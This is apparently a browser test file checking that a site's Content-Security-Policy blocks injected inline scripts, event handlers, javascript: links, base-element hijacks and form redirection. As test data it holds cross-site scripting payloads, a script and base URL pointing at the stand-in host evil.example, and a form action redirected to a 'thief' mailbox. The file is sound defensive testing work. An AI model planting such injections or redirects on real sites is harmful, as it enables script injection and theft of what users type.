/** Checks what the Content-Security-Policy blocks. `html/head.ts` checks the policy of each page. */
import { hydrated } from '../support/builtSite';
import { site } from '../support/labels';
import { eventually, visitor } from '../support/visitor';

const { newPage, visit, takeComplaints } = visitor();

test('a script injected into the HTML does not run, wherever it is', async () => {
  const page = await newPage();
  await page.route('**/elsewhere.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.ran = "elsewhere"' }),
  );
  await page.route('**/about', async (route) => {
    const response = await route.fetch();
    const injected = [
      '<script>window.ran = "inline"</script>',
      '<script src="https://evil.example/elsewhere.js"></script>',
      '<img src="/missing.png" alt="" onerror="window.ran = \'handler\'">',
    ];
    const body = (await response.text()).replace('</body>', `${injected.join('')}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/about');
  await hydrated(page);
  const violations: string[] = [];
  const isViolation = (complaint: string) => complaint.includes('Content Security Policy');
  await eventually(async () => violations.push(...takeComplaints(page).filter(isViolation)), 3);
  expect(violations.join()).toMatch(/inline script[\s\S]*evil\.example[\s\S]*inline event handler/i);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

test('a script or a base element that is added after the page has loaded has no effect', async () => {
  const page = await visit('/team');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "added"';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<a id="trap" href="javascript:window.ran=1">Trap</a>');
    document.getElementById('trap')?.click();
    document.head.insertAdjacentHTML('afterbegin', '<base href="https://evil.example/">');
  });
  await eventually(async () => takeComplaints(page).join().includes('base-uri'), true);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(await page.evaluate(() => new URL('x', document.baseURI).origin)).toBe(new URL(page.url()).origin);
});

test('typed text cannot be sent to another mailbox of the form service', async () => {
  const page = await visit('/contact');
  const { serviceUrl } = site.formService;
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(serviceUrl)) sent.push(request.url());
  });
  const refused = await page.evaluate(async (url) => {
    const form = document.querySelector<HTMLFormElement>('main form');
    if (form) form.action = `${url}/thief@example.com`;
    form?.submit();
    return fetch(`${url}/ajax/thief@example.com`, { method: 'POST' }).then(
      () => false,
      () => true,
    );
  }, serviceUrl);
  const violations: string[] = [];
  await eventually(async () => {
    violations.push(...takeComplaints(page));
    return ['form-action', 'connect-src'].filter((directive) => violations.join().includes(directive)).length;
  }, 2);
  expect([refused, sent]).toEqual([true, []]);
});
